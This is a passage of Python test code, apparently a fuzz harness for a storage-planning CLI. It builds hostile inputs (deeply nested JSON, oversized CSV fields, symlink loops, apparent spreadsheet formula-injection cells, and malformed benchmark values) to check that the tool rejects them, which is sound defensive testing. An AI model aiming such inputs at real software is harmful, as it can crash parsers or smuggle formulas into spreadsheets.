        obj, path = stack.pop()
        if isinstance(obj, dict):
            notes = [k[:-5] for k in obj if isinstance(k, str) and k.endswith("_note")]
            for k, v in obj.items():
                if v is None:
                    if not any(k == n or str(k).startswith(n + "_") for n in notes):
                        out.append(f"{path}.{k}")
                else:
                    stack.append((v, f"{path}.{k}"))
        elif isinstance(obj, list):
            for i, v in enumerate(obj):
                if v is None:
                    out.append(f"{path}[{i}]")
                else:
                    stack.append((v, f"{path}[{i}]"))
    return out


#: the kinds of hostile input (issue 23's generators), each a CLI command line
HOSTILE = ("deep-json", "csv-field", "symlink", "calibration", "formula", "fio-jobs", "measured", "diskspd")
_READERS = ("fio", "import", "design", "catalog", "calibration", "demand", "db", "tiers", "workload")


def _deep(rnd: random.Random) -> str:
    depth = rnd.choice([65, 100, 1_000, 100_000, rnd.randrange(60, 70)])
    return deep_json(depth, json.dumps(json_value(rnd)), rnd.choice("[{"))


def hostile_argv(rnd: random.Random, kind: str, files: Files) -> list[str]:
    """A command line feeding one hostile input of ``kind`` (see :data:`HOSTILE`)."""
    ref = str(EX / "reference.json")
    if kind == "deep-json":
        reader = rnd.choice(_READERS)
        deep = _deep(rnd)
        if reader == "fio":
            return [
                "import",
                files.write(('{"fio version": "fio-3.33", "jobs": [], "x": ' + deep + "}").encode()),
                "--design",
                ref,
            ]
        if reader == "import":
            return [
                "import",
                files.write(deep.encode(), rnd.choice([".json", ".xml", ".tsv", ".csv"])),
                "--design",
                ref,
            ]
        if reader == "design":
            return ["evaluate", files.write(('{"name": "d", "node": ' + deep + "}").encode())]
        if reader == "catalog":
            folder = files.folder / f"cat{files.n}"
            files.n += 1
            folder.mkdir()
            (folder / "mine.json").write_text('{"device_class": "nic", "records": ' + deep + "}")
            return ["catalog", "--catalog", str(folder)]
        if reader == "calibration":
            cal = files.write(('{"version": "x", "params": ' + deep + "}").encode())
            return ["evaluate", ref, "--workload", "oltp-8k", "--calibration", cal]
        if reader == "demand":
            return ["size", files.write(('{"total_iops": ' + deep + "}").encode())]
        if reader == "db":
            return ["sla", ref, "--db", files.write(('{"name": ' + deep + "}").encode())]
        if reader == "tiers":
            return ["price", ref, "--tiers", files.write(('{"tiers": ' + deep + "}").encode())]
        return ["evaluate", ref, "--workload", files.write(('{"name": ' + deep + "}").encode())]
    if kind == "csv-field":
        n = rnd.choice([131_072, 131_073, 200_000, rnd.randrange(100, 300_000)])
        col = rnd.randrange(5)
        cells = ["x", "4", "8", "1", "1000"]
        cells[col] = ("9" if col else "x") * n
        data = f"{CSV_HEADER}\n{','.join(cells)}\n".encode()
        return ["import", files.write(data, ".csv"), "--design", ref]
    if kind == "symlink":
        loop = str(symlink_loop(files.folder, f"loop{files.n}"))
        files.n += 1
        where = rnd.randrange(7)
        target = loop if rnd.random() < 0.7 else f"{loop}/x.json"
        if where == 0:
            return [rnd.choice(["evaluate", "price", "bom"]), ref, "--catalog", target]
        if where == 1:
            return ["catalog", "--catalog", target]
        if where == 2:
            return ["evaluate", target]
        if where == 3:
            return ["evaluate", ref, "--workload", "oltp-8k", "--calibration", target]
        if where == 4:
            return ["import", target, "--design", ref]
        if where == 5:
            return ["size", target]
        out = ["import", str(EX / "import-measurements.csv"), "--design", ref, "--calibrate", "--no-held-out"]
        return [*out, "--out", target]
    if kind == "calibration":
        cal = files.write(json.dumps(out_of_bound_calibration(rnd)).encode())
        cmd = rnd.randrange(4)
        if cmd == 0:
            return ["evaluate", ref, "--workload", rnd.choice(PROFILES), "--calibration", cal]
        if cmd == 1:
            return ["sla", ref, "--db", str(EX / "db-erp.json"), "--calibration", cal]
        if cmd == 2:
            return ["price", ref, "--calibration", cal]
        return ["size", str(EX / "demand-hammerdb.json"), "--calibration", cal]
    if kind == "formula":
        rows = [
            (
                rnd.choice(FORMULAS) + random_text(rnd, rnd.randrange(4)),
                rnd.choice([1, 4, 32]),
                8,
                rnd.choice([0.7, 1]),
                1000 + i,
            )
            for i in range(rnd.randint(1, 5))
        ]
        argv = ["import", files.write(csv_template(rows), ".csv"), "--design", ref, "--format", "csv"]
        return argv + (
            ["--calibrate", "--no-held-out", "--out", str(files.folder / "cal.json")] if _opt(rnd, 0.1) else []
        )
    if kind == "fio-jobs":
        doc = fio_jobs(
            rnd.choice([1, 2, 10, 100, 1000, rnd.randrange(1, 3000)]), bs=rnd.choice([512, 4096, 1, 1 << 20])
        )
        job = rnd.choice(doc["jobs"])
        edit = rnd.randrange(8)
        if edit == 0:
            job["read"]["iops"] = rnd.choice([-1000.0, 0.0, 1e308])
        elif edit == 1:
            job["read"]["bw_bytes"] = rnd.choice([-5, 0, 10**20])
        elif edit == 2:
            job["error"] = rnd.choice([5, "x", -1])
        elif edit == 3:
            job["read"]["lat_ns"]["mean"] = rnd.choice([0, -1, "NaN"])
        elif edit == 4:
            job["groupid"] = rnd.choice([1, "x", 10**30])
        elif edit == 5:
            job["jobname"] = random_text(rnd, rnd.choice([0, 5, 500]))
        elif edit == 6:
            job["job options"]["numjobs"] = rnd.choice(["0", "-4", "x", "100000"])
        return ["import", files.write(json.dumps(doc).encode()), "--design", ref]
    if kind == "measured":
        if _opt(rnd, 0.5):
            column = rnd.choice(
                ["IOPS", "AverageCPU", "AverageReadMilliseconds", "AverageReadBW", "AverageWriteBW", "VMCount"]
            )
            value = rnd.choice(["-1000", "0", "-0.5", "1e400", "nan", "101", "abc", ""])
            data, suffix, design = vmfleet_with(column, value), ".tsv", two_node_design(files)
        else:
            v = rnd.choice(["-1000", "0", "-0.5", "1e400", "nan", "1.5", "45"])
            col = rnd.choice(
                ["iops", "bandwidth_mb_s", "host_cpu_utilization", "read_latency_ms", "p99_read_latency_ms"]
            )
            header = f"{CSV_HEADER},{col}" if col != "iops" else CSV_HEADER
            row = "a,4,8,1," + (f"1000,{v}" if col != "iops" else v)
            data, suffix, design = f"{header}\n{row}\n".encode(), ".csv", ref
        return ["import", files.write(data, suffix), "--design", design]
    # diskspd: an edit of a numeric field
    old, new = rnd.choice(
        [
            ("<BlockSize>8192</BlockSize>", f"<BlockSize>{rnd.choice(['0', '-8192', '1e400', 'x'])}</BlockSize>"),
            (
                '<Throughput unit="IOPS">1000</Throughput>',
                f"<Throughput>{rnd.choice(['1000', '0', '-1'])}</Throughput>",
            ),
            ("<ThreadCount>4</ThreadCount>", f"<ThreadCount>{rnd.choice(['0', '-1', '100000'])}</ThreadCount>"),
            ("<RequestCount>2</RequestCount>", f"<RequestCount>{rnd.choice(['0', '-1'])}</RequestCount>"),
        ]
    )
    return ["import", files.write(diskspd_with(old, new), ".xml"), "--design", ref]


def two_node_design(files: Files) -> str:
    """A design file of the two-node cluster the shipped VMFleet file ran on."""
    from planner.calibration.benchdata import dell_designs

    rd = dell_designs()["AX6515-All-Flash-8SATA-SSDs-32VMs-2Node.txt"]
    return files.write(rd.design.model_dump_json(exclude_none=True).encode())
